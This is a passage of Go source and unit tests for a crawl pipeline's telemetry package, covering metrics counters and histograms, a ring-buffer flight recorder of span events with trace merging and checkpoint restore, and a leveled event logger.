		t.Fatalf("full trace has %d events, want 8", got)
	}

	var buf bytes.Buffer
	if err := WriteTrace(&buf, tr); err != nil {
		t.Fatal(err)
	}
	if lines := strings.Count(buf.String(), "\n"); lines != 4 {
		t.Fatalf("WriteTrace emitted %d lines, want 4", lines)
	}
}

func TestFlightOverwritesOldest(t *testing.T) {
	f := NewFlight(4)
	for i := 0; i < 6; i++ {
		f.End(f.Begin("s", 0, float64(i)), "s", float64(i))
	}
	ev := f.Events()
	if len(ev) != 4 {
		t.Fatalf("retained %d events, want 4", len(ev))
	}
	if f.Dropped() != 8 {
		t.Fatalf("dropped = %d, want 8", f.Dropped())
	}
	// Oldest retained event must be the begin of span 5 (spans 1–4's eight
	// events minus the four overwritten).
	if ev[0].Span != 5 || ev[0].Kind != "B" {
		t.Fatalf("oldest retained event = %+v", ev[0])
	}
}

func TestLoggerLevelsAndSinks(t *testing.T) {
	sink := &TestSink{}
	tel := New().WithLog(sink, LevelWarn)
	tel.Event(LevelInfo, "backoff", 100, L("seconds", "2"))
	tel.Event(LevelWarn, "watchdog-fire", 200, L("url", "https://x/"))
	tel.Event(LevelError, "breaker-trip", 300)
	if got := len(sink.Events()); got != 2 {
		t.Fatalf("sink saw %d events, want 2 (info filtered)", got)
	}
	if got := sink.Named("watchdog-fire"); len(got) != 1 || got[0].AtMS != 200 {
		t.Fatalf("Named = %+v", got)
	}

	var buf bytes.Buffer
	ws := NewWriterSink(&buf)
	NewLogger(ws, LevelDebug).Emit(LevelWarn, "storage-drop", 1500, L("table", "javascript"))
	want := "[warn] storage-drop ts=1.500 table=javascript\n"
	if buf.String() != want {
		t.Fatalf("writer sink line = %q, want %q", buf.String(), want)
	}

	NewLogger(NullSink{}, LevelDebug).Emit(LevelError, "x", 0) // must not panic
	if NewLogger(nil, LevelDebug) != nil {
		t.Fatal("NewLogger(nil) should return nil")
	}
}
