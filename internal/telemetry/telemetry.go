// Package telemetry is a dependency-free observability layer for the crawl
// pipeline. It provides three coordinated primitives:
//
//   - a metrics Registry of named counters, gauges and fixed-bucket
//     histograms with atomic updates, labelled by site, outcome, table or
//     fault class, snapshottable to deterministic canonical JSON;
//   - a Flight recorder of nested span begin/end events over *virtual* time
//     (the browser's deterministic clock), kept in a bounded ring buffer so
//     traces from record and replay runs of the same bundle are
//     bit-for-bit identical;
//   - a structured, leveled event log (retry, backoff, breaker-trip,
//     watchdog-fire, storage-drop, salvage, fault-inject) emitted through a
//     pluggable Sink.
//
// The paper's central finding is that OpenWPM loses or distorts data
// *silently* (Sec. 5.2: 14% of page loads failed without surfacing in the
// results) because the framework exposes no internal signals. This package
// makes every crawl self-describing while it runs and auditable after it
// finishes.
//
// Every type is nil-safe: a nil *Telemetry, *Registry, *Counter, *Flight or
// *Logger turns the corresponding operation into a no-op costing a few
// nanoseconds, so instrumentation points stay in the hot paths permanently
// and cost nothing when telemetry is off. Call sites that would otherwise
// build variadic label slices guard with Enabled() first.
package telemetry

// Telemetry bundles the three observability primitives threaded through the
// crawl pipeline. A nil *Telemetry disables everything.
type Telemetry struct {
	// Metrics is the metrics registry (counters, gauges, histograms).
	Metrics *Registry
	// Spans is the flight recorder of span begin/end events.
	Spans *Flight
	// Logs is the structured event log; nil discards events.
	Logs *Logger
}

// New returns an enabled Telemetry with a fresh registry and a default-sized
// flight recorder. No event sink is attached; use WithLog to add one.
func New() *Telemetry {
	return &Telemetry{Metrics: NewRegistry(), Spans: NewFlight(DefaultFlightCapacity)}
}

// WithLog attaches an event sink at the given minimum level and returns t.
func (t *Telemetry) WithLog(sink Sink, min Level) *Telemetry {
	if t != nil {
		t.Logs = NewLogger(sink, min)
	}
	return t
}

// Enabled reports whether telemetry is live. Hot paths check this before
// building label slices.
func (t *Telemetry) Enabled() bool { return t != nil }

// Counter resolves (creating on first use) the counter series name{labels}.
func (t *Telemetry) Counter(name string, labels ...Label) *Counter {
	if t == nil {
		return nil
	}
	return t.Metrics.Counter(name, labels...)
}

// Gauge resolves the gauge series name{labels}.
func (t *Telemetry) Gauge(name string, labels ...Label) *Gauge {
	if t == nil {
		return nil
	}
	return t.Metrics.Gauge(name, labels...)
}

// Histogram resolves the histogram series name{labels} with the given upper
// bucket bounds (used only on first creation).
func (t *Telemetry) Histogram(name string, bounds []float64, labels ...Label) *Histogram {
	if t == nil {
		return nil
	}
	return t.Metrics.Histogram(name, bounds, labels...)
}

// Begin opens a span in the flight recorder; see Flight.Begin.
func (t *Telemetry) Begin(name string, parent int64, atMS float64, attrs ...Label) int64 {
	if t == nil {
		return 0
	}
	return t.Spans.Begin(name, parent, atMS, attrs...)
}

// End closes a span in the flight recorder; see Flight.End.
func (t *Telemetry) End(span int64, name string, atMS float64, attrs ...Label) {
	if t != nil {
		t.Spans.End(span, name, atMS, attrs...)
	}
}

// Event emits a structured event to the log sink (no-op without one).
func (t *Telemetry) Event(level Level, name string, atMS float64, fields ...Label) {
	if t != nil {
		t.Logs.Emit(level, name, atMS, fields...)
	}
}

// Snapshot captures the current metrics as a deterministic value.
func (t *Telemetry) Snapshot() *Snapshot {
	if t == nil {
		return nil
	}
	return t.Metrics.Snapshot()
}
