package telemetry

import (
	"encoding/json"
	"fmt"
	"io"
)

// This file is the trace plane's flight-recorder surface: incremental event
// export for WAL checkpointing (EventsSince/RestoreFlight), live span
// streaming (SetTap), deterministic cross-shard merging (MergeTraces) and the
// JSON-lines parser (ReadTrace) shared by wpmtrace and the daemon.

// SetTap installs a live observer called for every event the recorder
// accepts, under the recorder's lock and in record order. The tap must be
// fast and must not call back into the Flight (it would deadlock); the
// daemon's SSE hub copies the event onto a bounded channel and returns.
// A nil tap detaches the observer.
func (f *Flight) SetTap(tap func(SpanEvent)) {
	if f == nil {
		return
	}
	f.mu.Lock()
	f.tap = tap
	f.mu.Unlock()
}

// Cursor is the recorder's monotone event count (including overwritten
// events) — the resume token EventsSince consumes.
func (f *Flight) Cursor() int64 {
	if f == nil {
		return 0
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.total
}

// NextID is the id the next Begin will allocate. Persisted at checkpoints so
// a restored recorder continues the same id sequence.
func (f *Flight) NextID() int64 {
	if f == nil {
		return 1
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.nextID
}

// EventsSince returns the retained events recorded after the given cursor
// (a value previously returned by EventsSince or Cursor; 0 means "from the
// beginning") plus the new cursor. Events that were recorded after the
// cursor but already overwritten by the ring are gone — callers that
// checkpoint every site boundary only lose events if a single site emits
// more than the ring holds.
func (f *Flight) EventsSince(cursor int64) ([]SpanEvent, int64) {
	if f == nil {
		return nil, cursor
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	oldest := f.total - int64(f.n)
	if cursor < oldest {
		cursor = oldest
	}
	if cursor > f.total {
		cursor = f.total
	}
	k := f.total - cursor
	out := make([]SpanEvent, 0, k)
	for i := int64(0); i < k; i++ {
		idx := (int64(f.start) + (cursor - oldest) + i) % int64(len(f.buf))
		out = append(out, f.buf[idx])
	}
	return out, f.total
}

// RestoreFlight rebuilds a recorder from checkpointed events: the events are
// replayed through the ring (so capacity semantics — and therefore Dropped()
// accounting — match a recorder that lived through them), and the id
// sequence continues from nextID so post-restore Begins never collide with
// restored spans.
func RestoreFlight(capacity int, events []SpanEvent, nextID int64) *Flight {
	f := NewFlight(capacity)
	for _, ev := range events {
		f.push(ev)
	}
	if nextID > f.nextID {
		f.nextID = nextID
	}
	return f
}

// FlightCheckpoint is the recorder delta persisted with each WAL site
// checkpoint: the events since the previous checkpoint, the id cursor, and
// the id of the crawl span left open across the boundary (0 once the crawl
// span has ended). Recovery concatenates the deltas and hands them to
// RestoreFlight.
type FlightCheckpoint struct {
	Events []SpanEvent `json:"events,omitempty"`
	NextID int64       `json:"nextId"`
	Crawl  int64       `json:"crawl,omitempty"`
}

// MergeTraces concatenates per-shard event streams into one stream with
// globally unique span ids. Every Flight numbers its spans from 1, so raw
// concatenation would interleave unrelated spans under colliding ids; the
// merge renumbers ids in first-appearance order within each part, parts in
// order — the same write-offset scheme bundle.Merge applies to storage-drop
// sequences — so the output is a pure function of the inputs. Parent
// references are remapped with their part; a parent id never seen in its
// part (its begin was overwritten by the ring) becomes 0, turning the orphan
// into a root rather than attaching it to an unrelated shard's span.
func MergeTraces(parts ...[]SpanEvent) []SpanEvent {
	var out []SpanEvent
	next := int64(1)
	for _, part := range parts {
		ids := make(map[int64]int64, len(part)/2)
		for _, ev := range part {
			nid, ok := ids[ev.Span]
			if !ok {
				nid = next
				next++
				ids[ev.Span] = nid
			}
			ev.Span = nid
			if ev.Parent != 0 {
				ev.Parent = ids[ev.Parent] // 0 when the parent never appeared
			}
			out = append(out, ev)
		}
	}
	return out
}

// ReadTrace parses a JSON-lines span-event stream (the WriteTrace format;
// any whitespace between objects is accepted).
func ReadTrace(r io.Reader) ([]SpanEvent, error) {
	dec := json.NewDecoder(r)
	var out []SpanEvent
	for i := 0; ; i++ {
		var ev SpanEvent
		if err := dec.Decode(&ev); err == io.EOF {
			break
		} else if err != nil {
			return nil, fmt.Errorf("telemetry: trace event %d: %w", i, err)
		}
		out = append(out, ev)
	}
	return out, nil
}
