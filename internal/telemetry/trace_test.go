package telemetry

import (
	"reflect"
	"strings"
	"sync"
	"testing"
)

// TestMergeTracesRenumbers is the cross-shard span-id collision regression:
// two shard Flights both number their spans from 1, so a raw concatenation
// would alias shard 0's crawl span with shard 1's. The merge must keep every
// span distinct, preserve intra-part parentage, and be deterministic.
func TestMergeTracesRenumbers(t *testing.T) {
	mkShard := func(site string) []SpanEvent {
		f := NewFlight(64)
		crawl := f.Begin("crawl", 0, 0)
		v := f.Begin("visit", crawl, 0, L("site", site))
		f.End(v, "visit", 5)
		f.End(crawl, "crawl", 5)
		return f.Events()
	}
	a, b := mkShard("a.example"), mkShard("b.example")
	if a[0].Span != b[0].Span {
		t.Fatalf("precondition: shard-local ids should collide, got %d vs %d", a[0].Span, b[0].Span)
	}

	merged := MergeTraces(a, b)
	if len(merged) != len(a)+len(b) {
		t.Fatalf("merged %d events, want %d", len(merged), len(a)+len(b))
	}
	// every distinct (part, local id) pair must come out as a distinct id,
	// begin and end of the same local span must agree, and parentage must be
	// preserved within each part
	begins := map[int64]SpanEvent{}
	for _, ev := range merged {
		if ev.Kind != "B" {
			continue
		}
		if _, dup := begins[ev.Span]; dup {
			t.Fatalf("span id %d begun twice after merge", ev.Span)
		}
		begins[ev.Span] = ev
	}
	if len(begins) != 4 {
		t.Fatalf("merged trace has %d distinct spans, want 4", len(begins))
	}
	for _, ev := range merged {
		if ev.Kind == "B" && ev.Name == "visit" {
			parent, ok := begins[ev.Parent]
			if !ok || parent.Name != "crawl" {
				t.Fatalf("visit span %d lost its crawl parent (parent=%d)", ev.Span, ev.Parent)
			}
			if parent.Attrs != nil {
				t.Fatalf("visit re-parented onto an attributed span: %+v", parent)
			}
		}
	}
	// a.example's visit and b.example's visit must hang off different crawls
	parents := map[int64]bool{}
	for _, ev := range merged {
		if ev.Kind == "B" && ev.Name == "visit" {
			parents[ev.Parent] = true
		}
	}
	if len(parents) != 2 {
		t.Fatalf("the two shards' visits share a crawl parent after merge: %v", parents)
	}
	// deterministic: same inputs, same bytes
	again := MergeTraces(mkShard("a.example"), mkShard("b.example"))
	if !reflect.DeepEqual(merged, again) {
		t.Fatalf("merge is not deterministic:\n%v\nvs\n%v", merged, again)
	}
}

// TestMergeTracesOrphanParent: a child whose parent's begin fell off the ring
// must surface as a root (parent 0), never attach to another part's span.
func TestMergeTracesOrphanParent(t *testing.T) {
	part := []SpanEvent{
		{Kind: "B", Span: 7, Parent: 3, Name: "visit", AtMS: 1}, // parent 3 never appears
		{Kind: "E", Span: 7, Name: "visit", AtMS: 2},
	}
	other := []SpanEvent{
		{Kind: "B", Span: 3, Parent: 0, Name: "crawl", AtMS: 0},
	}
	merged := MergeTraces(other, part)
	for _, ev := range merged[1:] {
		if ev.Parent != 0 {
			t.Fatalf("orphaned child kept parent %d (could alias another part): %+v", ev.Parent, ev)
		}
	}
}

// TestEventsSinceRestoreRoundTrip drives the WAL checkpoint cycle: deltas
// taken at boundaries, concatenated and restored, must rebuild a recorder
// whose events, cursor, id sequence and drop accounting all match the
// original.
func TestEventsSinceRestoreRoundTrip(t *testing.T) {
	f := NewFlight(64)
	var deltas [][]SpanEvent
	cursor := int64(0)
	for site := 0; site < 5; site++ {
		v := f.Begin("visit", 0, float64(site))
		f.End(v, "visit", float64(site)+0.5)
		var d []SpanEvent
		d, cursor = f.EventsSince(cursor)
		if len(d) != 2 {
			t.Fatalf("site %d delta has %d events, want 2", site, len(d))
		}
		deltas = append(deltas, d)
	}
	var all []SpanEvent
	for _, d := range deltas {
		all = append(all, d...)
	}
	r := RestoreFlight(64, all, f.NextID())
	if !reflect.DeepEqual(r.Events(), f.Events()) {
		t.Fatalf("restored events diverge:\n%v\nvs\n%v", r.Events(), f.Events())
	}
	if r.NextID() != f.NextID() {
		t.Fatalf("restored nextID %d, want %d", r.NextID(), f.NextID())
	}
	if r.Cursor() != f.Cursor() {
		t.Fatalf("restored cursor %d, want %d", r.Cursor(), f.Cursor())
	}
	// the restored recorder continues the same id sequence
	if got, want := r.Begin("visit", 0, 9), f.Begin("visit", 0, 9); got != want {
		t.Fatalf("post-restore Begin allocated %d, original allocated %d", got, want)
	}
}

// TestEventsSinceAfterWrap: a cursor pointing at events the ring has already
// overwritten clamps to the oldest retained event instead of misindexing.
func TestEventsSinceAfterWrap(t *testing.T) {
	f := NewFlight(4)
	for i := 0; i < 10; i++ {
		f.End(int64(i+1), "tick", float64(i)) // Ends alone: no id allocation
	}
	got, cur := f.EventsSince(0)
	if len(got) != 4 {
		t.Fatalf("retained %d events, want 4", len(got))
	}
	if got[0].AtMS != 6 {
		t.Fatalf("oldest retained event is at %v, want 6", got[0].AtMS)
	}
	if cur != 10 {
		t.Fatalf("cursor %d, want 10", cur)
	}
	if more, _ := f.EventsSince(cur); len(more) != 0 {
		t.Fatalf("no new events expected, got %v", more)
	}
}

// TestFlightWraparoundMidSpan: when a span's begin is overwritten but its end
// survives, Events keeps the end (flight-recorder semantics: latest activity
// wins) and Trace on that span returns only the surviving half.
func TestFlightWraparoundMidSpan(t *testing.T) {
	f := NewFlight(4)
	long := f.Begin("crawl", 0, 0) // will be overwritten
	for i := 0; i < 2; i++ {
		v := f.Begin("visit", long, float64(i))
		f.End(v, "visit", float64(i)+0.5)
	}
	f.End(long, "crawl", 99)

	events := f.Events()
	if len(events) != 4 {
		t.Fatalf("ring holds %d events, want 4", len(events))
	}
	for _, ev := range events {
		if ev.Kind == "B" && ev.Span == long {
			t.Fatalf("crawl begin should have been overwritten: %v", events)
		}
	}
	var sawEnd bool
	for _, ev := range f.Trace(long) {
		if ev.Kind == "B" && ev.Span == long {
			t.Fatalf("Trace invented a begin for span %d: %+v", long, ev)
		}
		if ev.Kind == "E" && ev.Span == long {
			sawEnd = true
		}
	}
	if !sawEnd {
		t.Fatalf("Trace dropped the surviving end event for span %d", long)
	}
}

// TestTraceRootWithDroppedBegin: descendants can only be discovered through
// their parent's begin event, so a root whose begin was overwritten yields
// just its own surviving events — never a sibling's.
func TestTraceRootWithDroppedBegin(t *testing.T) {
	f := NewFlight(6)
	root := f.Begin("crawl", 0, 0)
	v1 := f.Begin("visit", root, 1)
	f.End(v1, "visit", 2)
	// four more events push the crawl begin and v1's pair off the ring
	v2 := f.Begin("visit", root, 3)
	f.End(v2, "visit", 4)
	other := f.Begin("stray", 0, 5)
	f.End(other, "stray", 6)
	f.End(root, "crawl", 7)

	tr := f.Trace(root)
	for _, ev := range tr {
		if ev.Span == other {
			t.Fatalf("trace of %d leaked unrelated span %d: %v", root, other, tr)
		}
	}
	// v2's begin names root as parent, so v2 is still discoverable even
	// though root's own begin is gone
	found := map[int64]bool{}
	for _, ev := range tr {
		found[ev.Span] = true
	}
	if !found[v2] || !found[root] {
		t.Fatalf("trace lost surviving members (have %v, want %d and %d): %v", found, root, v2, tr)
	}
}

// TestDroppedConcurrent exercises Dropped's accounting while Begin/End race
// from many goroutines (run under -race in CI): total minus retained must
// equal the overwrite count, and the final arithmetic must balance.
func TestDroppedConcurrent(t *testing.T) {
	f := NewFlight(32)
	const goroutines, per = 8, 200
	var wg sync.WaitGroup
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < per; i++ {
				id := f.Begin("visit", 0, float64(i))
				f.End(id, "visit", float64(i))
				_ = f.Dropped()
				_, _ = f.EventsSince(0)
			}
		}(g)
	}
	wg.Wait()
	want := int64(goroutines*per*2 - 32)
	if got := f.Dropped(); got != want {
		t.Fatalf("Dropped() = %d, want %d", got, want)
	}
	if n := len(f.Events()); n != 32 {
		t.Fatalf("retained %d events, want 32", n)
	}
}

// TestFlightTap: the tap sees every event in record order, including ones
// the ring later overwrites.
func TestFlightTap(t *testing.T) {
	f := NewFlight(2)
	var seen []SpanEvent
	f.SetTap(func(ev SpanEvent) { seen = append(seen, ev) })
	a := f.Begin("visit", 0, 0)
	f.End(a, "visit", 1)
	b := f.Begin("visit", 0, 2)
	f.End(b, "visit", 3)
	if len(seen) != 4 {
		t.Fatalf("tap saw %d events, want 4", len(seen))
	}
	if seen[0].Span != a || seen[0].Kind != "B" {
		t.Fatalf("tap order broken: %+v", seen)
	}
	f.SetTap(nil)
	f.End(b, "visit", 4)
	if len(seen) != 4 {
		t.Fatalf("detached tap still firing")
	}
}

// TestReadTraceRoundTrip: WriteTrace then ReadTrace is the identity.
func TestReadTraceRoundTrip(t *testing.T) {
	f := NewFlight(16)
	v := f.Begin("visit", 0, 1.5, L("site", "x.example"))
	f.End(v, "visit", 2.25, L("outcome", "completed"))
	var b strings.Builder
	if err := WriteTrace(&b, f.Events()); err != nil {
		t.Fatal(err)
	}
	got, err := ReadTrace(strings.NewReader(b.String()))
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, f.Events()) {
		t.Fatalf("round trip diverged:\n%v\nvs\n%v", got, f.Events())
	}
	if _, err := ReadTrace(strings.NewReader("{\"ph\":\"B\"}\nnot json\n")); err == nil {
		t.Fatal("malformed trace line should error")
	}
}
