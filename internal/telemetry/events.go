package telemetry

import (
	"fmt"
	"io"
	"strings"
	"sync"
)

// Level grades structured events.
type Level int

// Event severity levels, lowest first.
const (
	LevelDebug Level = iota
	LevelInfo
	LevelWarn
	LevelError
)

// String renders the level for sinks and filters.
func (l Level) String() string {
	switch l {
	case LevelDebug:
		return "debug"
	case LevelInfo:
		return "info"
	case LevelWarn:
		return "warn"
	case LevelError:
		return "error"
	default:
		return fmt.Sprintf("level(%d)", int(l))
	}
}

// Event is one structured log record: a named occurrence (retry, backoff,
// breaker-trip, watchdog-fire, storage-drop, salvage, fault-inject) at a
// virtual-clock timestamp with key-value fields.
type Event struct {
	Level  Level   `json:"level"`
	Name   string  `json:"name"`
	AtMS   float64 `json:"ts"`
	Fields []Label `json:"fields,omitempty"`
}

// Sink receives structured events. Implementations must be safe for
// concurrent use; the Logger serialises nothing.
type Sink interface {
	Write(Event)
}

// NullSink discards every event.
type NullSink struct{}

// Write implements Sink by dropping the event.
func (NullSink) Write(Event) {}

// WriterSink renders events as single text lines to an io.Writer.
type WriterSink struct {
	mu sync.Mutex
	w  io.Writer
}

// NewWriterSink wraps w in a line-oriented sink.
func NewWriterSink(w io.Writer) *WriterSink { return &WriterSink{w: w} }

// Write implements Sink: `[level] name ts=12.5 k=v k2=v2`.
func (s *WriterSink) Write(ev Event) {
	var b strings.Builder
	fmt.Fprintf(&b, "[%s] %s ts=%.3f", ev.Level, ev.Name, ev.AtMS/1000)
	for _, f := range ev.Fields {
		fmt.Fprintf(&b, " %s=%s", f.Key, f.Value)
	}
	b.WriteByte('\n')
	s.mu.Lock()
	defer s.mu.Unlock()
	io.WriteString(s.w, b.String())
}

// TestSink records events in memory for assertions.
type TestSink struct {
	mu     sync.Mutex
	events []Event
}

// Write implements Sink by appending the event.
func (s *TestSink) Write(ev Event) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.events = append(s.events, ev)
}

// Events returns a copy of everything recorded so far.
func (s *TestSink) Events() []Event {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]Event(nil), s.events...)
}

// Named returns the recorded events with the given name.
func (s *TestSink) Named(name string) []Event {
	var out []Event
	for _, ev := range s.Events() {
		if ev.Name == name {
			out = append(out, ev)
		}
	}
	return out
}

// Logger filters events by minimum level and forwards them to a Sink. A nil
// *Logger (or nil sink) discards everything.
type Logger struct {
	sink Sink
	min  Level
}

// NewLogger returns a logger forwarding events at or above min to sink.
func NewLogger(sink Sink, min Level) *Logger {
	if sink == nil {
		return nil
	}
	return &Logger{sink: sink, min: min}
}

// Emit forwards one event if it clears the minimum level.
func (l *Logger) Emit(level Level, name string, atMS float64, fields ...Label) {
	if l == nil || level < l.min {
		return
	}
	l.sink.Write(Event{Level: level, Name: name, AtMS: atMS, Fields: fields})
}
