package telemetry

import (
	"encoding/json"
	"io"
	"sync"
)

// DefaultFlightCapacity bounds the flight recorder ring buffer. At two
// events per span this holds the last ~16k spans of a crawl, enough for the
// deepest visit traces while keeping memory flat on million-site runs.
const DefaultFlightCapacity = 32768

// SpanEvent is one begin ("B") or end ("E") record in the flight recorder.
// Times are virtual milliseconds from the deterministic crawl clock, so a
// replayed bundle reproduces the exact same event stream as its recording.
type SpanEvent struct {
	// Kind is "B" for begin, "E" for end.
	Kind string `json:"ph"`
	// Span is the span id this event belongs to; ids are sequential per
	// Flight starting at 1.
	Span int64 `json:"id"`
	// Parent is the enclosing span id (0 for roots); set on begin events.
	Parent int64 `json:"parent,omitempty"`
	// Name is the span name (crawl, visit, page-load, script-exec,
	// http-exchange).
	Name string `json:"name"`
	// AtMS is the virtual-clock timestamp in milliseconds.
	AtMS float64 `json:"ts"`
	// Attrs carries span attributes (site, url, status, outcome).
	Attrs []Label `json:"attrs,omitempty"`
}

// Flight is a bounded ring buffer of span events. Begin/End append under a
// mutex; when the buffer is full the oldest events are overwritten, flight-
// recorder style, so the most recent crawl activity is always retained.
type Flight struct {
	mu     sync.Mutex
	buf    []SpanEvent
	start  int // index of oldest event
	n      int // number of live events
	nextID int64
	total  int64 // events ever recorded (including overwritten)
	tap    func(SpanEvent)
}

// NewFlight returns a flight recorder holding at most capacity events.
func NewFlight(capacity int) *Flight {
	if capacity < 2 {
		capacity = 2
	}
	return &Flight{buf: make([]SpanEvent, capacity), nextID: 1}
}

func (f *Flight) push(ev SpanEvent) {
	if f.n == len(f.buf) {
		f.buf[f.start] = ev
		f.start = (f.start + 1) % len(f.buf)
	} else {
		f.buf[(f.start+f.n)%len(f.buf)] = ev
		f.n++
	}
	f.total++
	if f.tap != nil {
		f.tap(ev)
	}
}

// Begin records a span-begin event and returns the new span id. parent is
// the enclosing span id (0 for a root). A nil Flight returns 0, which is a
// valid no-op parent for nested Begin calls.
func (f *Flight) Begin(name string, parent int64, atMS float64, attrs ...Label) int64 {
	if f == nil {
		return 0
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	id := f.nextID
	f.nextID++
	f.push(SpanEvent{Kind: "B", Span: id, Parent: parent, Name: name, AtMS: atMS, Attrs: attrs})
	return id
}

// End records a span-end event for the given span id. Ending span 0 (the
// no-op id from a nil recorder) is ignored.
func (f *Flight) End(span int64, name string, atMS float64, attrs ...Label) {
	if f == nil || span == 0 {
		return
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	f.push(SpanEvent{Kind: "E", Span: span, Name: name, AtMS: atMS, Attrs: attrs})
}

// Events returns the retained events oldest-first.
func (f *Flight) Events() []SpanEvent {
	if f == nil {
		return nil
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	out := make([]SpanEvent, f.n)
	for i := 0; i < f.n; i++ {
		out[i] = f.buf[(f.start+i)%len(f.buf)]
	}
	return out
}

// Dropped reports how many events were overwritten by the ring buffer.
func (f *Flight) Dropped() int64 {
	if f == nil {
		return 0
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.total - int64(f.n)
}

// Trace extracts the subtree rooted at the given span id: the root's events
// plus every retained descendant event, oldest-first. Per-visit trace
// inspection uses this to pull one visit out of a whole-crawl recording.
func (f *Flight) Trace(root int64) []SpanEvent {
	events := f.Events()
	if len(events) == 0 || root == 0 {
		return nil
	}
	in := map[int64]bool{root: true}
	// Begin events arrive before their children's, so one oldest-first pass
	// closes the descendant set.
	for _, ev := range events {
		if ev.Kind == "B" && in[ev.Parent] {
			in[ev.Span] = true
		}
	}
	var out []SpanEvent
	for _, ev := range events {
		if in[ev.Span] {
			out = append(out, ev)
		}
	}
	return out
}

// WriteTrace streams events as JSON lines (one SpanEvent object per line),
// the format the CLI -trace flag emits.
func WriteTrace(w io.Writer, events []SpanEvent) error {
	enc := json.NewEncoder(w)
	for _, ev := range events {
		if err := enc.Encode(ev); err != nil {
			return err
		}
	}
	return nil
}
