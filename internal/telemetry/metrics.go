package telemetry

import (
	"encoding/json"
	"math"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
)

// Label is one key=value dimension of a metric series, span or event.
type Label struct {
	Key   string `json:"k"`
	Value string `json:"v"`
}

// L builds a Label tersely at call sites.
func L(key, value string) Label { return Label{Key: key, Value: value} }

// seriesKey renders name plus sorted labels into the canonical series
// identity: `name` or `name{k1=v1,k2=v2}`.
func seriesKey(name string, labels []Label) string {
	if len(labels) == 0 {
		return name
	}
	ls := append([]Label(nil), labels...)
	sort.Slice(ls, func(i, j int) bool { return ls[i].Key < ls[j].Key })
	var b strings.Builder
	b.Grow(len(name) + 16*len(ls))
	b.WriteString(name)
	b.WriteByte('{')
	for i, l := range ls {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(l.Key)
		b.WriteByte('=')
		b.WriteString(l.Value)
	}
	b.WriteByte('}')
	return b.String()
}

// Counter is a monotonically increasing series. A nil *Counter ignores
// updates, so disabled telemetry costs one nil check per event.
type Counter struct{ v atomic.Int64 }

// Add increments the counter by n.
func (c *Counter) Add(n int64) {
	if c != nil {
		c.v.Add(n)
	}
}

// Inc increments the counter by one.
func (c *Counter) Inc() { c.Add(1) }

// Value returns the current count (0 on nil).
func (c *Counter) Value() int64 {
	if c == nil {
		return 0
	}
	return c.v.Load()
}

// Gauge is a set-or-adjust series (progress, sizes). Nil-safe like Counter.
type Gauge struct{ v atomic.Int64 }

// Set stores n.
func (g *Gauge) Set(n int64) {
	if g != nil {
		g.v.Store(n)
	}
}

// Add adjusts the gauge by n.
func (g *Gauge) Add(n int64) {
	if g != nil {
		g.v.Add(n)
	}
}

// Value returns the current value (0 on nil).
func (g *Gauge) Value() int64 {
	if g == nil {
		return 0
	}
	return g.v.Load()
}

// Histogram is a fixed-bucket distribution. Observations are bucketed by
// upper bound and summed in integer microunits, so concurrent updates from
// sharded crawl workers commute exactly — the snapshot is deterministic
// regardless of scheduling, which float accumulation could not guarantee.
type Histogram struct {
	bounds    []float64 // ascending upper bounds; +Inf bucket is implicit
	counts    []atomic.Int64
	count     atomic.Int64
	sumMicros atomic.Int64
}

// SecondsBuckets is the default bucket layout for virtual-seconds series.
var SecondsBuckets = []float64{0.5, 1, 5, 15, 30, 60, 120, 300, 600}

// Observe records one value.
func (h *Histogram) Observe(v float64) {
	if h == nil {
		return
	}
	i := sort.SearchFloat64s(h.bounds, v)
	h.counts[i].Add(1)
	h.count.Add(1)
	h.sumMicros.Add(int64(math.Round(v * 1e6)))
}

// Count returns the number of observations (0 on nil).
func (h *Histogram) Count() int64 {
	if h == nil {
		return 0
	}
	return h.count.Load()
}

// Sum returns the observation sum (microunit-rounded; 0 on nil).
func (h *Histogram) Sum() float64 {
	if h == nil {
		return 0
	}
	return float64(h.sumMicros.Load()) / 1e6
}

// Registry holds every metric series of one crawl. Series are created on
// first use and live for the registry's lifetime; resolution takes the
// registry lock, so hot paths resolve once and keep the returned handle.
type Registry struct {
	mu         sync.Mutex
	counters   map[string]*Counter
	gauges     map[string]*Gauge
	histograms map[string]*Histogram
	histBounds map[string][]float64
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{
		counters:   map[string]*Counter{},
		gauges:     map[string]*Gauge{},
		histograms: map[string]*Histogram{},
		histBounds: map[string][]float64{},
	}
}

// Counter returns the counter series name{labels}, creating it at zero.
func (r *Registry) Counter(name string, labels ...Label) *Counter {
	if r == nil {
		return nil
	}
	key := seriesKey(name, labels)
	r.mu.Lock()
	defer r.mu.Unlock()
	c, ok := r.counters[key]
	if !ok {
		c = &Counter{}
		r.counters[key] = c
	}
	return c
}

// Gauge returns the gauge series name{labels}, creating it at zero.
func (r *Registry) Gauge(name string, labels ...Label) *Gauge {
	if r == nil {
		return nil
	}
	key := seriesKey(name, labels)
	r.mu.Lock()
	defer r.mu.Unlock()
	g, ok := r.gauges[key]
	if !ok {
		g = &Gauge{}
		r.gauges[key] = g
	}
	return g
}

// Histogram returns the histogram series name{labels}. bounds applies on
// first creation only (nil falls back to SecondsBuckets); later calls reuse
// the existing layout.
func (r *Registry) Histogram(name string, bounds []float64, labels ...Label) *Histogram {
	if r == nil {
		return nil
	}
	key := seriesKey(name, labels)
	r.mu.Lock()
	defer r.mu.Unlock()
	h, ok := r.histograms[key]
	if !ok {
		if len(bounds) == 0 {
			bounds = SecondsBuckets
		}
		bs := append([]float64(nil), bounds...)
		sort.Float64s(bs)
		h = &Histogram{bounds: bs, counts: make([]atomic.Int64, len(bs)+1)}
		r.histograms[key] = h
		r.histBounds[key] = bs
	}
	return h
}

// HistogramSnapshot is the serialised state of one histogram series. The sum
// is kept in integer microunits so the encoding is exact and canonical.
type HistogramSnapshot struct {
	// Bounds are the ascending upper bucket bounds; Counts has one extra
